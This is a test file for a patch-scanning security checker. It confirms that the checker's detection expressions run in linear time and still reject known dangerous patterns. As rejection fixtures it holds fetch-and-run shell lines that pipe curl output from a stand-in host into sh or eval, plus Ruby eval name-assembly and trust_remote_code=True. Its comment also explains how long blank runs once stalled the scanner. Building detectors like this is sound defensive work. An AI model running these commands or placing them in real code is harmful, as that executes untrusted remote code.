import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/patch.js';
import { dangerousCodeSignals, languageSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
import { patchAdding } from '../support/patches.js';

/**
 * Attack pass 14 (session 37): a sink's or a downloader's name followed by a run of blanks made the check's expressions
 * try every split of the run between neighbouring blank quantifiers — `eval` + 2 KB of spaces cost 5.5 s of CPU,
 * `curl` + 2 KB 1.5 s, growing ~8× per doubling (cubic), so one patch could hold an analysis for hours. The culprits:
 * `remote-script`'s "read by a command that runs what it reads" (three `\s*` in a row), Ruby's `assembled-name`
 * (`\s*\(?\s*` before a bounded run that reads blanks too), the group end after a download (`[ \t]*;?[ \t]*`), and a
 * look-behind over blanks tried at every position (`trust_remote_code`). Blanks between lines count too: `\s` crosses
 * newlines.
 */
describe('pass 14: blank runs after a name cost linear time', () => {
  for (const [path, head, blank] of [
    ['src/a.py', 'eval', ' '],
    ['src/a.py', 'eval', '\n'],
    ['lib/a.rb', 'eval', ' '],
    ['docs/a.md', 'curl', ' '],
    ['docs/a.md', 'sh', ' '],
    ['src/a.py', '', ' '],
  ] as const) {
    it(`reads ${JSON.stringify(head)} then ${JSON.stringify(blank)} repeated, in ${path}, in linear time`, { timeout: 120_000 }, () => {
      const textOf = (size: number) => `${head}${blank.repeat(size)}x`;
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => [dangerousCodeSignals(text), languageSignals(path, text.split('\n'))]);
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }

  it('reads a line of repeated hub.load( calls in linear time', { timeout: 120_000 }, () => {
    const unit = "hub.load(source='remote') ";
    const textOf = (size: number) => unit.repeat(Math.floor(size / unit.length));
    const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text));
    expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });

  it('still refuses what the rewritten expressions name', () => {
    for (const [path, text] of [
      ['docs/a.md', 'sh   <<<   "$(curl -s https://x.example/i)"'],
      ['docs/a.md', 'eval  "$(curl -s https://x.example/i)"'],
      ['docs/a.md', '{ curl -s https://x.example/i ;  } | sh'],
      ['lib/a.rb', 'eval (  "sys" + "tem")'],
      ['src/a.py', 'model = AutoModel.from_pretrained(name,\n    trust_remote_code=True)'],
    ] as const) {
      expect(checkPatch(patchAdding(path, text.split('\n'))), text).toMatchObject({ ok: false });
    }
  });
});
